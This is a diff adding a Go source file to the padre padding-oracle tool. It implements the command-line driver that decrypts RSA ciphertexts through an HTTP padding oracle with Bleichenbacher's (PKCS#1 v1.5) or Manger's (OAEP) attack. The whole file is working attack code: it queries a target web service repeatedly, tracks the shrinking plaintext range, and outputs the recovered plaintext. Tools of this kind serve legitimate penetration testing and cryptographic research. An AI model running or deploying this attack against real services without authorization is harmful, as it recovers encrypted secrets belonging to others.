@@ -0,0 +1,135 @@
+package main
+
+import (
+	"context"
+	"crypto/sha1"
+	"crypto/sha256"
+	"fmt"
+	"hash"
+
+	"github.com/glebarez/padre/pkg/client"
+	"github.com/glebarez/padre/pkg/color"
+	"github.com/glebarez/padre/pkg/exploit"
+	out "github.com/glebarez/padre/pkg/output"
+	"github.com/glebarez/padre/pkg/probe"
+	"github.com/glebarez/padre/pkg/rsaoracle"
+	"github.com/glebarez/padre/pkg/util"
+)
+
+// progress of RSA attack is reported every time the range of plaintext shrinks by that many bits
+const rsaProgressBits = 64
+
+// attacks on RSA, see -mode
+const (
+	rsaModeBleichenbacher = "bleichenbacher"
+	rsaModeManger         = "manger"
+)
+
+// OAEP is decoded with common hash functions, the label is assumed to be empty
+func unpadOAEP(em []byte) ([]byte, error) {
+	var err error
+	for _, h := range []hash.Hash{sha1.New(), sha256.New()} {
+		var m []byte
+		if m, err = rsaoracle.UnpadOAEP(em, h, nil); err == nil {
+			return m, nil
+		}
+	}
+	return nil, err
+}
+
+// attackRSA decrypts RSA ciphertexts with Bleichenbacher's (PKCS#1 v1.5) or Manger's (OAEP) attack,
+// oracle is reached with the same client and matcher as in CBC mode. returns exit code
+func attackRSA(ctx context.Context, print *out.Printer, args *Args, c *client.Client, matcher probe.PaddingErrorMatcher, inputs []string) int {
+	bits := args.RSAKey.N.BitLen()
+	print.Warning("mode: %s", color.CyanBold("rsa"))
+	if args.RSAMode == rsaModeManger {
+		print.Info("RSA key: %s bits, OAEP padding (Manger)", color.Green(bits))
+	} else {
+		print.Info("RSA key: %s bits, PKCS#1 v1.5 padding (Bleichenbacher)", color.Green(bits))
+	}
+
+	router, err := makeRouter(args.Sinks, nil, *args.ForceRaw)
+	if err != nil {
+		print.Error(err)
+		return 1
+	}
+	defer router.Close()
+
+	var results outcomes
+	for i, input := range inputs {
+		print.AddPrefix(color.CyanBold(fmt.Sprintf("[%d/%d]", i+1, len(inputs))), true)
+
+		output, err := decryptRSA(ctx, print, args, c, matcher, input)
+		if err != nil {
+			print.Error(err)
+		}
+		results.add(err)
+
+		err = router.Write(&out.Result{Mode: "rsa", Input: input, Output: output, Err: err, Binary: !util.IsPrintable(output)})
+		if err == out.ErrBinaryOutput {
+			print.Warning("%s. Use %s to write raw bytes anyway, or redirect STDOUT", err, color.CyanBold("-force-raw"))
+		} else if err != nil {
+			print.Error(err)
+			return 1
+		}
+		print.RemovePrefix()
+
+		if ctx.Err() != nil {
+			return exitCodeOf(ctx.Err(), exitAborted)
+		}
+	}
+	return results.exitCode()
+}
+
+// decrypts single RSA ciphertext
+func decryptRSA(ctx context.Context, print *out.Printer, args *Args, c *client.Client, matcher probe.PaddingErrorMatcher, input string) ([]byte, error) {
+	ciphertext, err := args.Encoder.DecodeString(input)
+	if err != nil {
+		return nil, exploit.InvalidInput(err)
+	}
+
+	lastBits := args.RSAKey.N.BitLen()
+	oracle := &rsaoracle.HTTPOracle{Client: c, Matcher: matcher}
+	progress := func(queries, bits int) {
+		if lastBits-bits >= rsaProgressBits {
+			lastBits = bits
+			print.Info("%d bits of plaintext left unknown, %d requests made", bits, queries)
+		}
+	}
+	var log func(int, string, ...interface{})
+	if print.Verbosity > 0 {
+		log = print.Log
+	}
+
+	var (
+		attack interface {
+			Decrypt(context.Context, []byte) ([]byte, error)
+			Queries() int
+		}
+		unpad func([]byte) ([]byte, error)
+	)
+	switch args.RSAMode {
+	case rsaModeManger:
+		attack = &rsaoracle.Manger{PublicKey: args.RSAKey, Oracle: oracle, Concurrency: *args.Parallel, Progress: progress, Log: log}
+		unpad = unpadOAEP
+		print.Action("decrypting with Manger's attack...")
+	default:
+		attack = &rsaoracle.Bleichenbacher{PublicKey: args.RSAKey, Oracle: oracle, Concurrency: *args.Parallel, Progress: progress, Log: log}
+		unpad = rsaoracle.UnpadPKCS1v15
+		print.Action("decrypting with Bleichenbacher's attack...")
+	}
+
+	em, err := attack.Decrypt(ctx, ciphertext)
+	if err != nil {
+		return nil, err
+	}
+	print.Success("decrypted with %s requests", color.Green(attack.Queries()))
+
+	// the whole encryption block is given, if it's not properly padded
+	plaintext, err := unpad(em)
+	if err != nil {
+		print.Warning("%s, showing the whole decrypted block", err)
+		return em, nil
+	}
+	return plaintext, nil
+}